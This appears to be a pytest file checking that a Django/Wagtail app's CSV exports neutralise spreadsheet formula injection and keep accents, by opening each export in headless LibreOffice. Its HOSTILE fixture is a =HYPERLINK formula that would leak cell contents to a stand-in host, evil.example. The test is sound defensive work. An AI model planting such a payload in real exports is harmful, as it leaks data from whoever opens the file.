"""Every CSV Masthead writes is safe to open in a spreadsheet: no live formulas, accents intact.

Each export is opened the way Sales and editors open it: LibreOffice reads the file as a spreadsheet
with formulas evaluated (as Excel does) and saves it as .xlsx, where a formula cell and a garbled name
would both show. Every file also starts with a byte-order mark, without which Excel reads UTF-8 as the
local code page (LibreOffice run headless takes the character set from its filter options instead).
"""

import csv
import io
import os
import shutil
import subprocess

import openpyxl
import pytest
from wagtail.contrib.forms.models import FormSubmission

from buyingstages.audience.models import Lead, MinimalFormPage
from buyingstages.common.spreadsheets import BYTE_ORDER_MARK, csv_text, read_cell, safe_cell
from publishing.calendar.exchange import export_entries, import_entries
from publishing.calendar.models import CalendarEntry
from tests.factories import AssetPageFactory, CalendarEntryFactory
from tests.people import as_a_person

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the brief")'
ACCENTED = "Zoë Müller-Ñúñez"
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# LibreOffice's CSV filter: comma, double quote, UTF-8 (76), from line 1, and (the 13th token)
# formulas evaluated on import, as Excel always does.
CSV_IMPORT = "CSV:44,34,76,1,,,false,false,false,false,false,false,true"


def opened_in_libreoffice(data, tmp_path):
    """The CSV as LibreOffice reads it: every cell's (value, is a formula)."""
    if SOFFICE is None:
        message = "opening the exports needs LibreOffice (apt-get install libreoffice-calc-nogui)"
        if os.environ.get("CI"):
            pytest.fail(f"{message}; .ci/run installs it")
        pytest.skip(message)
    source = tmp_path / "export.csv"
    source.write_bytes(data)
    subprocess.run(  # noqa: S603
        [SOFFICE, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         f"--infilter={CSV_IMPORT}", "--convert-to", "xlsx", "--outdir", str(tmp_path), str(source)],
        check=True, capture_output=True, timeout=180, env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
    )  # fmt: skip
    sheet = openpyxl.load_workbook(tmp_path / "export.xlsx").active
    return [(cell.value, cell.data_type == "f") for row in sheet.iter_rows() for cell in row]


def assert_safe(data, tmp_path):
    assert data.startswith(BYTE_ORDER_MARK.encode())
    cells = opened_in_libreoffice(data, tmp_path)
    assert not [value for value, formula in cells if formula], "a cell became a formula"
    texts = [str(value) for value, _ in cells if value is not None]
    assert any("HYPERLINK" in text for text in texts)
    assert any(ACCENTED in text for text in texts), f"the accents did not survive: {texts}"


def streamed(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_leads_export(client, make_user, tmp_path):
    Lead.objects.create(name=HOSTILE, email="x@example.com").mark_sales_ready("Read the pricing")
    Lead.objects.create(name=ACCENTED, email="zoe@example.com").mark_sales_ready("Read it all")
    client.force_login(make_user("Sales"))

    assert_safe(
        streamed(client.get("/admin/sales/inbox/", {"state": "all", "export": "csv"})), tmp_path
    )


def test_the_content_audit_export(editor_client, library, stages, tmp_path):
    AssetPageFactory(parent=library, stage=stages[1], title=HOSTILE)
    AssetPageFactory(parent=library, stage=stages[1], title=ACCENTED)

    assert_safe(
        streamed(editor_client.get("/admin/reports/content-audit/", {"export": "csv"})), tmp_path
    )


def test_the_calendar_export(editor_client, stages, tmp_path):
    CalendarEntryFactory(title=HOSTILE, brief="-1 if it slips", stage=stages[0])
    CalendarEntryFactory(title=ACCENTED, stage=stages[0])

    assert_safe(streamed(editor_client.get("/admin/calendar/export/")), tmp_path)


def test_a_form_s_submissions_export(editor_client, client, home, tmp_path):
    page = home.add_child(instance=MinimalFormPage(title="E-mail me this", slug="email-me-this"))
    for name in (HOSTILE, ACCENTED):
        client.post(
            page.url, as_a_person({"name": name, "email": "someone@example.com", "consent": "on"})
        )
    assert FormSubmission.objects.count() == 2

    export = editor_client.get(f"/admin/forms/submissions/{page.pk}/", {"export": "csv"})
    assert_safe(streamed(export), tmp_path)


def test_the_calendar_reads_its_own_export_back_as_it_was(stages):
    for title in (HOSTILE, "+44 launch", "@mention plan", ACCENTED):
        CalendarEntryFactory(title=title, stage=stages[0])
    exported = export_entries(CalendarEntry.objects.order_by("pk"))
    CalendarEntry.objects.all().delete()

    count, errors = import_entries(exported.encode())

    assert (count, errors) == (4, [])
    titles = list(CalendarEntry.objects.order_by("pk").values_list("title", flat=True))
    assert titles == [HOSTILE, "+44 launch", "@mention plan", ACCENTED]


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "plain", ""]
)
def test_a_cell_reads_back_as_it_was_written(text):
    assert read_cell(safe_cell(text)) == text


def test_csv_text_is_read_by_python_s_csv_module_too():
    text = csv_text(["name"], [[HOSTILE], [ACCENTED], [3]])
    rows = list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK))))
    assert rows == [["name"], ["'" + HOSTILE], [ACCENTED], ["3"]]
